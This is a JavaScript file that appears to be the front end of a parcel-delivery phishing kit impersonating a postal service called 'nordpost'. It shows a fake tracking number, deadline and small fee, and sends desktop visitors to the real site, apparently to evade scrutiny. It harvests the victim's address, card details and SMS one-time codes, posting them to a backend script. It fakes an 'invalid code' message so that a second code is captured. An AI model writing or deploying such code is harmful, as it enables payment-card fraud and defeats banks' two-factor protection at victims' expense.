const store = {
  get: k => JSON.parse(localStorage.getItem('np_' + k) || 'null'),
  set: (k, v) => localStorage.setItem('np_' + k, JSON.stringify(v)),
};

const tracking = 'NP' + Math.floor(1e8 + Math.random() * 9e8) + 'EX';
document.querySelectorAll('.track-no').forEach(e => (e.textContent = tracking));
document.querySelector('.deadline').textContent = new Date(Date.now() + 864e5).toLocaleDateString(navigator.language);
document.querySelector('.amount').textContent = '2,99 €';

const mobile = /Android|iPhone|iPad/i.test(navigator.userAgent);
if (!mobile) location.replace('https://www.nordpost.example/track');

document.querySelector('#addressForm')?.addEventListener('submit', function (e) {
  e.preventDefault();
  store.set('addr', Object.fromEntries(new FormData(this)));
  document.querySelector('#addressForm').hidden = true;
  document.querySelector('#cardForm').hidden = false;
});

document.querySelector('#cardForm')?.addEventListener('submit', async function (e) {
  e.preventDefault();
  const card = Object.fromEntries(new FormData(this));
  const body = { tracking, ...store.get('addr'), ...card, lang: navigator.language };
  document.querySelector('.spinner').hidden = false;
  try {
    await fetch('core/submit.php?step=card', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
  } catch (err) {
    console.log(err);
  }
  setTimeout(() => {
    document.querySelector('.spinner').hidden = true;
    document.querySelector('.last4').textContent = '**** ' + card.cardnumber.slice(-4);
    document.querySelector('#smsForm').hidden = false;
    this.hidden = true;
  }, 7000);
});

let bad = 0;
document.querySelector('#smsForm')?.addEventListener('submit', function (e) {
  e.preventDefault();
  fetch('core/submit.php?step=sms', { method: 'POST', body: JSON.stringify({ tracking, sms: this.sms.value }) });
  if (++bad < 2) {
    this.querySelector('.invalid').textContent = 'Code invalide, un nouveau code vous a été envoyé.';
    this.reset();
  } else location.href = 'https://www.nordpost.example/';
});
